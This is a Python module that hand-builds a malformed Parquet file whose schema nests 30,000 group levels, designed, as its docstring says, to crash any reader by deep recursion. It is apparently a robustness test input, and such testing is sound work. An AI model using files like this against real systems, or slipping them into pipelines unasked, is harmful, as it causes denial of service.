"""A Parquet file that crashes whoever reads it by recursion: its column is 30,000 levels deep.

Written by hand, as no library writes it: https://parquet.apache.org/docs/file-format/metadata/ in
Thrift's compact protocol.
"""

from __future__ import annotations

import struct

_I32, _I64, _BINARY, _LIST, _STRUCT = 5, 6, 8, 9, 12
_OPTIONAL = 1
_MAGIC = b"PAR1"


def deep_parquet(depth: int = 30_000) -> bytes:
    """Give the bytes of a file without rows, with groups nested so deep."""
    groups = [_element(b"deep", children=1) for _ in range(depth)]
    schema = [_element(b"schema", children=1), *groups, _element(b"leaf", of_type=1)]
    footer = _field(1, _I32, _number(2))
    footer += _field(1, _LIST, bytes([0xF0 | _STRUCT]) + _varint(len(schema)) + b"".join(schema))
    footer += _field(1, _I64, _number(0)) + _field(1, _LIST, bytes([_STRUCT])) + b"\0"
    return _MAGIC + footer + struct.pack("<I", len(footer)) + _MAGIC


def _element(name: bytes, children: int = 0, of_type: int = 0) -> bytes:
    start = _field(1, _I32, _number(of_type)) + _field(2, _I32, _number(_OPTIONAL))
    element = start if of_type else _field(3, _I32, _number(_OPTIONAL))
    element += _field(1, _BINARY, _varint(len(name)) + name)
    return element + (_field(1, _I32, _number(children)) if children else b"") + b"\0"


def _field(step: int, kind: int, value: bytes) -> bytes:
    """Give a field; `step` is how far its number is from the last one's."""
    return bytes([step << 4 | kind]) + value


def _number(value: int) -> bytes:
    return _varint(value << 1 ^ value >> 63)


def _varint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])
